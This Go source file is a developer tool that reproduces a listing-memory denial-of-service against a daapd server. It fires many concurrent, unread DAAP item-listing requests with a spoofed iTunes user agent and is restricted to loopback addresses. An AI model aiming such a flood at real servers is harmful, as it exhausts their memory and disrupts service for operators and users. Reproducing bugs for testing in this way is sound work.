// Command listattack reproduces the listing-memory attack of issue 8 on a
// daapd listening on loopback: n concurrent requests for distinct
// meta=all item listings (a query no listing cache holds), each connection
// closed right after its request is sent (or after -hold), none read.
//
//	go run ./tools/listattack -addr 127.0.0.1:3689 -n 150
//
// Watch the server's peak RSS (VmHWM in /proc/PID/status) meanwhile.
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"net/url"
	"sync"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:3689", "daapd address (loopback only)")
	n := flag.Int("n", 150, "concurrent distinct listings")
	hold := flag.Duration("hold", 0, "keep each connection open this long before closing it, unread")
	session := flag.String("session", "1", "session-id to send")
	flag.Parse()
	host, _, err := net.SplitHostPort(*addr)
	if err != nil {
		log.Fatal(err)
	}
	if ip := net.ParseIP(host); ip == nil || !ip.IsLoopback() {
		log.Fatalf("%s is not a loopback address", host)
	}
	start := time.Now()
	var wg sync.WaitGroup
	var mu sync.Mutex
	failed := 0
	for i := range *n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.DialTimeout("tcp", *addr, 10*time.Second)
			if err != nil {
				mu.Lock()
				failed++
				mu.Unlock()
				return
			}
			defer c.Close()
			q := url.QueryEscape(fmt.Sprintf("'dmap.itemname!:zz%d'", i))
			req := fmt.Sprintf("GET /databases/1/items?session-id=%s&meta=all&query=%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: iTunes/12.12.10 (Macintosh; OS X 13.5)\r\n\r\n",
				*session, q, *addr)
			if _, err := c.Write([]byte(req)); err != nil {
				mu.Lock()
				failed++
				mu.Unlock()
				return
			}
			time.Sleep(*hold)
		}()
	}
	wg.Wait()
	fmt.Printf("%d requests sent and closed in %v (%d failed)\n", *n, time.Since(start).Round(time.Millisecond), failed)
}
